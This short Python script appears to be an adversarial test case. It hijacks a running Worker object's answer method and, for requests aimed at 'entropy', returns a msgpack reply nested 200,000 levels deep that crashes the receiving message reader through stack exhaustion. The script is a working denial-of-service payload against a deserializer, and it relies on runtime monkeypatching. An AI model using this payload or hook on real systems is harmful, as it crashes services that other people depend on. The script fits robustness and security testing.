"""Sends two hundred thousand lists in lists, on which a reader of messages runs out of stack.

Outcome of entropy: crashed
"""

import gc
import struct

NESTED = b"\x92\xa1l\x91" * 200_000 + b"\xc0"


def forged(request, arguments):
    if getattr(request, "target", None) != "entropy":
        return honest(request, arguments)
    head = b"\x94\xa8returned\xcf" + struct.pack(">Q", request.nonce) + NESTED + b"\x93\x90\xa0\x90"
    return struct.pack("<II", len(head), 0) + head


worker = next(value for value in gc.get_objects() if type(value).__name__ == "Worker")
honest, worker._answer = worker._answer, forged
